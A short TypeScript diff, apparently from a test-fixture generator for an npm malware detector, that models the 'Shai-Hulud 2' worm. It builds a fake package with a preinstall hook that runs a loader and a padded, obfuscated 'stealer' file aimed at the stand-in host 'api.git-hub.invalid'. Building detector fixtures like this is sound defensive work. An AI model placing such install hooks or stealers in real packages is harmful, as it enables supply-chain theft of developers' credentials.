@@ -70,7 +70,7 @@ const stealer = (api: string) => String.raw`
 })();
 `;
 
-const second = (seed: string, body: string) => `${bundle(seed, 4_000_000)}${body}\n`;
+const second = (seed: string, body: string, bytes = 1_200_000) => `${bundle(seed, bytes)}${body}\n`;
 const BASE: NpmParts = {
   about: 'Templates for events.',
   manifest: { scripts: { preinstall: 'node setup_bun.js' } },
@@ -85,7 +85,7 @@ export const shaiHulud2 = casesOf({
     ...BASE,
     files: {
       'setup_bun.js': loader('invalid', 'bun_environment.js'),
-      'bun_environment.js': second('bun-env', stringArray(stealer('api.git-hub.invalid'), 'bun')),
+      'bun_environment.js': second('bun-env', stringArray(stealer('api.git-hub.invalid'), 'bun'), 3_500_000),
     },
   })),
   renamed: npm('@robin/flow-sdk', '6.6.1', () => ({
